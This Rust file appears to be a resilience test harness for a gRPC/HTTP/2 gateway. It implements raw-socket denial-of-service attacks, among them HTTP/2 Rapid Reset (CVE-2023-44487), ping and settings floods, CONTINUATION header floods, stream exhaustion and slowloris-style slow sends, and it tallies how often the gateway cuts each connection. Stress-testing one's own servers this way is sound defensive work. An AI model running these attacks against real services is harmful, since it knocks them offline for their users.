//! What foreign clients do to a gateway: an attack a function, over plain sockets, without any client library. Each goes on
//! until its time is up, connecting anew when it is cut off, and tells how often it was.

use std::future::Future;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::task::JoinHandle;
use tokio::time::{Instant, sleep, timeout_at};

/// Who is attacked, and with what in hand.
#[derive(Clone, Debug)]
pub struct Target {
    /// Where the gateway listens.
    pub address: SocketAddr,
    /// A key that stands: some of those who do harm are partners.
    pub key: String,
    /// A source that the key may use.
    pub source: String,
}

/// How it went.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Tally {
    /// Connections that were made.
    pub connections: u64,
    /// Of them those that the gateway ended.
    pub cut: u64,
}

/// An attack, until a time.
pub type Attack = fn(Target, Instant) -> Pin<Box<dyn Future<Output = Tally> + Send>>;

/// An attack, and whether the gateway is bound to end its connections at once.
pub struct Named {
    /// What it is called.
    pub name: &'static str,
    /// What it does.
    pub run: Attack,
    /// It breaks the protocol, so that its connections are ended at once.
    pub is_cut: bool,
}

macro_rules! attacks {
    ($($name:ident: $is_cut:literal,)*) => {
        /// All of them.
        pub const ATTACKS: &[Named] = &[$(
            Named { name: stringify!($name), run: |target, until| Box::pin($name(target, until)), is_cut: $is_cut },
        )*];
    };
}
attacks! {
    garbage_for_a_greeting: true,
    garbage_for_frames: true,
    frames_too_large: true,
    endless_headers: true,
    headers_too_large: false,
    rapid_reset: true,
    settings_flood: false,
    ping_flood: false,
    empty_data_flood: true,
    windows_that_overflow: true,
    ten_thousand_streams_on_one_connection: true,
    ten_thousand_streams_on_many_connections: false,
    messages_without_an_end: false,
    answers_never_taken: false,
    acknowledgements_never_taken: false,
    feeds_never_taken: false,
    a_socket_never_read: false,
    a_greeting_byte_by_byte: false,
    a_message_byte_by_byte: false,
    a_greeting_and_no_call: false,
    half_closed: false,
}

const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
/// SETTINGS_INITIAL_WINDOW_SIZE of nothing: no answer may be sent.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// The largest frame that the gateway said it takes.
const FRAME_BYTES: usize = 16 << 10;
const CAPTURE: &str = "/trao.v1.CaptureService/CaptureEvent";
const SYNC: &str = "/trao.v1.CaptureService/SyncEvents";
const PULL: &str = "/trao.v1.FeedService/PullEvents";
const FOLLOW: &str = "/trao.v1.FeedService/StreamEvents";
/// A message of no bytes, with its length in front.
const EMPTY: &[u8] = &[0; 5];

/// What went wrong: the connection is no more.
#[derive(Debug)]
struct Cut;

/// One connection of somebody who means no good.
struct Peer {
    out: OwnedWriteHalf,
    /// Ends when the gateway has ended the connection.
    reading: JoinHandle<()>,
    /// Bytes of data that the gateway still takes on this connection.
    room: Arc<AtomicI64>,
}

impl Peer {
    /// Connects, says nothing, and reads whatever comes.
    async fn connect(target: &Target) -> Result<Peer, Cut> {
        let stream = TcpStream::connect(target.address).await.map_err(|_| Cut)?;
        let (receiving, out) = stream.into_split();
        let room = Arc::new(AtomicI64::new(65_535));
        Ok(Peer { out, reading: tokio::spawn(read(receiving, Arc::clone(&room))), room })
    }

    /// Connects and greets, with settings.
    async fn greeted(target: &Target, settings: &[u8]) -> Result<Peer, Cut> {
        let mut peer = Peer::connect(target).await?;
        peer.send(GREETING).await?;
        peer.send(&frame(SETTINGS, 0, 0, settings)).await?;
        Ok(peer)
    }

    /// Sends bytes; what the gateway does not take in a while is a cut too.
    async fn send(&mut self, bytes: &[u8]) -> Result<(), Cut> {
        if self.reading.is_finished() {
            return Err(Cut);
        }
        self.out.write_all(bytes).await.map_err(|_| Cut)
    }

    /// Begins a call.
    async fn call(&mut self, stream: u32, path: &str, target: &Target) -> Result<(), Cut> {
        self.send(&frame(HEADERS, END_HEADERS, stream, &headers(path, &target.key))).await
    }

    /// Sends a part of a message as soon as the gateway takes it.
    async fn say(&mut self, stream: u32, flags: u8, bytes: &[u8]) -> Result<(), Cut> {
        let length = bytes.len() as i64;
        while self.room.load(Ordering::SeqCst) < length {
            sleep(Duration::from_millis(1)).await;
            self.send(&[]).await?;
        }
        self.room.fetch_sub(length, Ordering::SeqCst);
        self.send(&frame(DATA, flags, stream, bytes)).await
    }

    /// Waits until the gateway ends it, or the time is up.
    async fn ended(&mut self, until: Instant) -> Result<(), Cut> {
        timeout_at(until, &mut self.reading).await.map_or(Ok(()), |_| Err(Cut))
    }
}

impl Drop for Peer {
    fn drop(&mut self) {
        self.reading.abort();
    }
}

/// Reads frames until the end, and notes how much data may be sent.
async fn read(mut from: OwnedReadHalf, room: Arc<AtomicI64>) {
    let mut header = [0; 9];
    while from.read_exact(&mut header).await.is_ok() {
        let mut payload = vec![0; u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize];
        if from.read_exact(&mut payload).await.is_err() {
            return;
        }
        if header[3] == WINDOW_UPDATE && header[5..] == [0; 4] {
            let more = u32::from_be_bytes(payload[..4].try_into().unwrap());
            room.fetch_add(i64::from(more), Ordering::SeqCst);
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// A header as it is, without tables or codes (RFC 7541, 6.2.2).
fn header(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        match text.len() {
            short @ 0..127 => bytes.push(short as u8),
            long => {
                bytes.push(127);
                let mut rest = long - 127;
                while rest >= 128 {
                    bytes.push((rest % 128) as u8 | 128);
                    rest /= 128;
                }
                bytes.push(rest as u8);
            }
        }
        bytes.extend_from_slice(text.as_bytes());
    }
    bytes
}

fn headers(path: &str, key: &str) -> Vec<u8> {
    let bearer = format!("Bearer {key}");
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "gateway"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("authorization", &bearer),
    ]
    .into_iter()
    .flat_map(|(name, value)| header(name, value))
    .collect()
}

/// A message with its length in front.
fn message(bytes: &[u8]) -> Vec<u8> {
    let mut whole = vec![0];
    whole.extend_from_slice(&u32::try_from(bytes.len()).unwrap().to_be_bytes());
    whole.extend_from_slice(bytes);
    whole
}

/// A field of bytes in protobuf, shorter than 128.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let mut whole = vec![number << 3 | 2, u8::try_from(bytes.len()).unwrap()];
    whole.extend_from_slice(bytes);
    whole
}

/// Rubbish that is the same each time.
fn rubbish(length: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_u32;
    let next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    std::iter::repeat_with(next).take(length).collect()
}

/// Does a thing on one connection after the other until the time is up.
async fn again<F: Future<Output = Result<(), Cut>>>(until: Instant, mut once: impl FnMut() -> F) -> Tally {
    let mut tally = Tally::default();
    while Instant::now() < until {
        tally.connections += 1;
        // What still sends when the time is up was not cut.
        if let Ok(Err(Cut)) = timeout_at(until, once()).await {
            tally.cut += 1;
        }
    }
    tally
}

/// Something else than a greeting.
pub async fn garbage_for_a_greeting(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::connect(&target).await?;
        peer.send(&[0xff; 4096]).await?;
        peer.ended(until).await
    })
    .await
}

/// A greeting, and then no frames but noise.
pub async fn garbage_for_frames(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        loop {
            peer.send(&rubbish(64 << 10)).await?;
        }
    })
    .await
}

/// Frames larger than any that the gateway takes.
pub async fn frames_too_large(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        peer.call(1, CAPTURE, &target).await?;
        let large = frame(DATA, 0, 1, &vec![0; (1 << 24) - 1]);
        loop {
            peer.send(&large).await?;
        }
    })
    .await
}

/// Headers that go on and on.
pub async fn endless_headers(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        peer.send(&frame(HEADERS, 0, 1, &headers(CAPTURE, &target.key))).await?;
        let more: Vec<u8> =
            std::iter::repeat_with(|| header("x-more", "and more")).take(900).flatten().collect();
        loop {
            peer.send(&frame(CONTINUATION, 0, 1, &more)).await?;
        }
    })
    .await
}

/// Calls whose headers are four times as large as is allowed.
pub async fn headers_too_large(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        let large = header("x-large", &"x".repeat(15 << 10));
        for stream in (1..).step_by(2) {
            peer.send(&frame(HEADERS, END_STREAM, stream, &headers(CAPTURE, &target.key))).await?;
            for more in 0..4 {
                let flags = if more == 3 { END_HEADERS } else { 0 };
                peer.send(&frame(CONTINUATION, flags, stream, &large)).await?;
            }
        }
        Ok(())
    })
    .await
}

/// Calls that are cancelled as soon as they are begun (CVE-2023-44487).
pub async fn rapid_reset(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        let headers = headers(CAPTURE, &target.key);
        for first in (1..).step_by(200) {
            let mut bytes = Vec::new();
            for stream in (first..first + 200).step_by(2) {
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers));
                bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            peer.send(&bytes).await?;
        }
        Ok(())
    })
    .await
}

async fn flood(target: &Target, until: Instant, one: Vec<u8>) -> Tally {
    let many = one.repeat(1_000);
    again(until, async || {
        let mut peer = Peer::greeted(target, &[]).await?;
        loop {
            peer.send(&many).await?;
        }
    })
    .await
}

/// New settings without end, each of which must be acknowledged.
pub async fn settings_flood(target: Target, until: Instant) -> Tally {
    flood(&target, until, frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await
}

/// Pings without end, each of which must be answered.
pub async fn ping_flood(target: Target, until: Instant) -> Tally {
    flood(&target, until, frame(PING, 0, 0, &[7; 8])).await
}

/// Data of no bytes, which no window bounds.
pub async fn empty_data_flood(target: Target, until: Instant) -> Tally {
    let many = frame(DATA, 0, 1, &[]).repeat(1_000);
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        peer.call(1, SYNC, &target).await?;
        loop {
            peer.send(&many).await?;
        }
    })
    .await
}

/// Windows beyond what a window may be.
pub async fn windows_that_overflow(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        let largest = (u32::MAX >> 1).to_be_bytes();
        loop {
            peer.send(&frame(WINDOW_UPDATE, 0, 0, &largest)).await?;
        }
    })
    .await
}

/// Calls that are begun and then left alone, more than a connection may have.
pub async fn ten_thousand_streams_on_one_connection(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        for stream in (1..20_000).step_by(2) {
            let path = if stream % 4 == 1 { CAPTURE } else { SYNC };
            peer.call(stream, path, &target).await?;
        }
        peer.ended(until).await
    })
    .await
}

/// The same, a hundred on each of a hundred connections.
pub async fn ten_thousand_streams_on_many_connections(target: Target, until: Instant) -> Tally {
    let mut attacks = tokio::task::JoinSet::new();
    for _ in 0..100 {
        let target = target.clone();
        attacks.spawn(again_owned(until, move || {
            let target = target.clone();
            async move {
                let mut peer = Peer::greeted(&target, &[]).await?;
                for stream in (1..200).step_by(2) {
                    let path = if stream % 4 == 1 { CAPTURE } else { SYNC };
                    peer.call(stream, path, &target).await?;
                }
                peer.ended(until).await
            }
        }));
    }
    let mut sum = Tally::default();
    while let Some(Ok(tally)) = attacks.join_next().await {
        sum.connections += tally.connections;
        sum.cut += tally.cut;
    }
    sum
}

async fn again_owned<F: Future<Output = Result<(), Cut>>>(until: Instant, once: impl FnMut() -> F) -> Tally {
    again(until, once).await
}

/// Messages of a megabyte of which the last byte never comes, on as many calls as there may be, by nobody known.
pub async fn messages_without_an_end(target: Target, until: Instant) -> Tally {
    let stranger = Target { key: String::new(), ..target };
    again(until, async || {
        let mut peer = Peer::greeted(&stranger, &[]).await?;
        let part = vec![0; FRAME_BYTES];
        for stream in (1..2_000).step_by(2) {
            peer.call(stream, CAPTURE, &stranger).await?;
            peer.say(stream, 0, &[0, 0, 0x10, 0, 0]).await?;
            for _ in 0..63 {
                peer.say(stream, 0, &part).await?;
            }
        }
        peer.ended(until).await
    })
    .await
}

/// Questions whose answers are never taken, as many as a connection may have open.
pub async fn answers_never_taken(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, NO_WINDOW).await?;
        for stream in (1..500).step_by(2) {
            peer.call(stream, PULL, &target).await?;
            peer.say(stream, END_STREAM, EMPTY).await?;
        }
        peer.ended(until).await
    })
    .await
}

/// A device that sends and sends, and takes no acknowledgement.
pub async fn acknowledgements_never_taken(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, NO_WINDOW).await?;
        let hello = message(&field(1, &field(1, target.source.as_bytes())));
        let lines = message(&field(2, &[0xff; 100])).repeat(40);
        for stream in (1..20).step_by(2) {
            peer.call(stream, SYNC, &target).await?;
            peer.say(stream, 0, &hello).await?;
            for _ in 0..10 {
                peer.say(stream, 0, &lines).await?;
            }
        }
        peer.ended(until).await
    })
    .await
}

/// Feeds that are asked for and never taken.
pub async fn feeds_never_taken(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, NO_WINDOW).await?;
        for stream in (1..400).step_by(2) {
            peer.call(stream, FOLLOW, &target).await?;
            peer.say(stream, END_STREAM, EMPTY).await?;
        }
        peer.ended(until).await
    })
    .await
}

/// Questions and pings, and not one byte is read from the socket.
pub async fn a_socket_never_read(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut socket = TcpStream::connect(target.address).await.map_err(|_| Cut)?;
        socket.write_all(GREETING).await.map_err(|_| Cut)?;
        socket.write_all(&frame(SETTINGS, 0, 0, &[])).await.map_err(|_| Cut)?;
        for stream in (1..).step_by(2) {
            let call = frame(HEADERS, END_HEADERS, stream, &headers(PULL, &target.key));
            socket.write_all(&call).await.map_err(|_| Cut)?;
            socket.write_all(&frame(DATA, END_STREAM, stream, EMPTY)).await.map_err(|_| Cut)?;
            socket.write_all(&frame(PING, 0, 0, &[1; 8])).await.map_err(|_| Cut)?;
        }
        Ok(())
    })
    .await
}

/// A byte now and then, before anything else.
pub async fn a_greeting_byte_by_byte(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::connect(&target).await?;
        for byte in GREETING.iter().cycle() {
            peer.send(&[*byte]).await?;
            sleep(Duration::from_millis(200)).await;
        }
        Ok(())
    })
    .await
}

/// A byte now and then, in the middle of a message.
pub async fn a_message_byte_by_byte(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        for stream in [1, 3] {
            peer.call(stream, if stream == 1 { CAPTURE } else { SYNC }, &target).await?;
            peer.say(stream, 0, &[0, 0, 0, 0x10, 0]).await?;
        }
        loop {
            for stream in [1, 3] {
                peer.say(stream, 0, &[0]).await?;
            }
            sleep(Duration::from_millis(50)).await;
        }
    })
    .await
}

/// Connections that greet, answer pings, and never call.
pub async fn a_greeting_and_no_call(target: Target, until: Instant) -> Tally {
    let mut peers = Vec::new();
    for _ in 0..200 {
        peers.extend(Peer::greeted(&target, &[]).await.ok());
    }
    let connections = peers.len() as u64;
    let mut cut = 0;
    for peer in &mut peers {
        loop {
            match peer.send(&frame(PING, ACK, 0, &[0; 8])).await {
                Err(Cut) => {
                    cut += 1;
                    break;
                }
                Ok(()) if Instant::now() + Duration::from_millis(100) >= until => break,
                Ok(()) => sleep(Duration::from_millis(100)).await,
            }
        }
    }
    Tally { connections, cut }
}

/// Connections of which one half is closed while the other goes on waiting for an answer.
pub async fn half_closed(target: Target, until: Instant) -> Tally {
    again(until, async || {
        let mut peer = Peer::greeted(&target, &[]).await?;
        peer.call(1, SYNC, &target).await?;
        peer.out.shutdown().await.map_err(|_| Cut)?;
        peer.ended(until).await
    })
    .await
}
